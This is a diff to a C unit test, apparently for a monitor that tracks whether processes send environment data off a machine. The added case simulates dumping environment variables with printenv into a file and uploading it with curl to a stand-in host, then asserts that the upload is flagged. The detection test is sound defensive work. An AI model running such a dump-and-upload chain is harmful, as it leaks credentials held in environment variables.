@@ -1030,6 +1030,15 @@ static void test_environment_sent(void **state)
 	curl->cwd = refstr_new("/src");
 	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@e.txt", "http://x/c"), 0, 0, NULL);
 	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	/* printenv | sort > s.txt, the filter started first: the file is a dump once printenv runs */
+	sort = fork_of(w, shell);
+	env = fork_of(w, shell);
+	exec_io(w, sort, "/usr/bin/sort", ARGV("sort"), 80, 0, NULL, "/tmp/ci/s.txt");
+	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv"), 0, 80, NULL);
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-T", "/tmp/ci/s.txt", "http://x/c"), 0, 0,
+		NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
 	/* a script given the path sends it once it connects */
 	py = fork_of(w, shell);
 	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "post.py", "/tmp/ci/e.txt"), 0, 0, NULL);
